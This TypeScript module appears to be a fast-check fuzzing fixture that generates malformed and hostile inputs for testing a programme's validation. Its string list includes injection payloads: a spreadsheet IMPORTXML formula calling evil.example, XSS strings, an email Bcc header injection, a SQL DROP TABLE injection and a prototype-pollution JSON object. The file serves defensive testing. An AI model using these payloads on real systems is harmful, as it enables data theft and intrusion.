import fc from 'fast-check';

/** How long an answer the programme must live with. */
const ENDLESS = 60_000;

/** Texts that break programs: each kind of trouble by its name. */
const UGLY_TEXTS = [
  // Formulas, and what a sheet reads as something else.
  '=IMPORTXML("https://evil.example","//a")',
  '=1+1',
  '+1',
  '-2',
  '@x',
  "'quoted",
  "''",
  'TRUE',
  'false',
  '1/2',
  '1e5',
  '007',
  '50%',
  '$100',
  // HTML, scripts, templates, headers, and names that objects of JavaScript have.
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '&lt;b&gt; &#0;',
  '<?= secret ?>',
  'Globex\r\nBcc: all@evil.example',
  'Globex\nSubject: other',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  '$3',
  '%00%0a',
  "'; DROP TABLE leads;--",
  // Spaces and what shows nothing.
  ' ',
  '  two  spaces  ',
  '\t',
  '\u00a0nbsp\u00a0',
  '\u200b',
  'zero\u200bwidth\u200c\u200d\u2060',
  '\ufeffbom',
  'in\ufeffside',
  // Control characters, halves of characters, what XML has no place for.
  'a\u0000b',
  'bell\u0007',
  'escape\u001b[31m',
  'c1\u0085\u009f',
  'half \ud83d',
  '\udd8a half',
  'non\ufffe\uffff',
  'line\u2028and\u2029paragraph',
  'vertical\u000btab\u000cfeed',
  // Scripts and directions.
  'شركة المثال',
  'חברה לדוגמה',
  '\u202eevil\u202c',
  '\u2067mixed نص\u2069',
  '北京小米科技有限公司',
  'Å ﬁ ① Ⅷ ｆｕｌｌ',
  'Z̸͓̗̈́̎a̷̘͐l̶̰̈́g̴̫̎o̸',
  'Cafe\u0301 \u1e9b\u0323',
  '👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿🇺🇳👍🏿',
  // Dates.
  '0001-01-01',
  '1899-12-30',
  '1900-01-01',
  '2026-01-05',
  '2027-02-29',
  '2999-12-31',
  '9999-12-31',
  '10000-01-01',
  '31/12/2026',
  '12/31/2026',
  '31.12.2026',
  '2026-1-5',
  '2026-01-05T09:00',
  '2026-01-05T09:00:00Z',
  '2026-13-45T99:99',
  '99999999',
  '-1',
  // Amounts.
  '1,234.56',
  '1.234,56',
  '€ 100',
  '1 000,00',
  '1e3',
  '١٢٣',
  '-5',
  ' 5 ',
  '0',
  '-0',
  '1234567890123456',
  '0.001',
  '0x10',
  'NaN',
  'Infinity',
  '1e400',
  '.5',
  '5.',
  // Words of the programme in another dress.
  'L-0001',
  ' l-0001 ',
  'L-9999',
  'D-0001',
  'P-001',
  'usd',
  'u\u017fd',
  'ACTIVE',
  'ye\u017f',
  'KIM@acme.example',
  '\u212aim@acme.example',
  'a@b',
  '"a b"@acme.example',
  'kim@acme.example, lee@borealis.example; x',
] as const;

/** Characters of every kind, halves of characters included. */
const anyCharacter = fc.oneof(
  { weight: 4, arbitrary: fc.integer({ min: 0x20, max: 0x17f }) },
  { weight: 1, arbitrary: fc.integer({ min: 0, max: 0x1f }) },
  { weight: 4, arbitrary: fc.integer({ min: 0, max: 0xffff }) },
);

const randomText = fc.array(anyCharacter, { maxLength: 40 }).map((codes) => String.fromCharCode(...codes));

const endlessText = fc
  .tuple(fc.constantFrom('x', '🦊', 'é', '<b>', '=1+', '\u0000', '\n', '"', '1,', '\ud83d'), fc.nat(3))
  .map(([unit, shift]) => `${'a'.repeat(shift)}${unit.repeat(Math.ceil(ENDLESS / unit.length))}`);

/** A text that a person, a partner or an attacker may write. */
export const uglyText: fc.Arbitrary<string> = fc.oneof(
  { weight: 12, arbitrary: fc.constantFrom(...UGLY_TEXTS) },
  { weight: 4, arbitrary: randomText },
  { weight: 3, arbitrary: fc.string({ unit: 'grapheme', maxLength: 60 }) },
  { weight: 1, arbitrary: endlessText },
  {
    weight: 2,
    arbitrary: fc
      .tuple(fc.constantFrom(...UGLY_TEXTS), fc.constantFrom(...UGLY_TEXTS))
      .map(([a, b]) => `${a}${b}`),
  },
);

/** Values of JSON that have no text: a command must say so of each. */
const foreignValue: fc.Arbitrary<unknown> = fc.constantFrom<unknown>(
  {},
  { toString: 1 },
  { toString: 1, valueOf: 2 },
  { length: 3 },
  [[]],
  [[['deep']]],
  [{ name: { first: 'x' } }],
  [null],
  [1, 'two', false],
  JSON.parse('{"__proto__":{"admin":true},"constructor":{"prototype":1}}'),
);

/** What a command's JSON may hold where a text is expected. */
export const uglyValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 12, arbitrary: uglyText },
  {
    weight: 2,
    arbitrary: fc.constantFrom<unknown>(0, 1, -1, 0.1, 1e21, 1e-7, 123456.75, 20260105, 99999999),
  },
  { weight: 2, arbitrary: fc.constantFrom<unknown>(true, false, null, [], '') },
  { weight: 3, arbitrary: foreignValue },
  { weight: 1, arbitrary: fc.array(uglyText, { maxLength: 4 }) },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
);

/** A value that no field of any command takes, so that a refusal has to name the field. */
export const hopelessValue: fc.Arbitrary<unknown> = fc.constantFrom<unknown>(
  'a\u0000b',
  'half \ud83d',
  'x'.repeat(ENDLESS),
  '🦊'.repeat(ENDLESS / 2),
  { toString: 1 },
  { name: 'x' },
);

/** Names that fields of objects may have by accident or ill will. */
export const uglyName: fc.Arbitrary<string> = fc.constantFrom(
  '__proto__',
  'constructor',
  'toString',
  'prototype',
  'hasOwnProperty',
  'Lead',
  'lead ',
  '',
  '0',
  'a\u0000b',
  'x'.repeat(500),
);

/** Sets an own property of whatever name, as JSON does. */
export function setOwn(target: object, name: string, value: unknown): void {
  Object.defineProperty(target, name, { value, enumerable: true, configurable: true, writable: true });
}
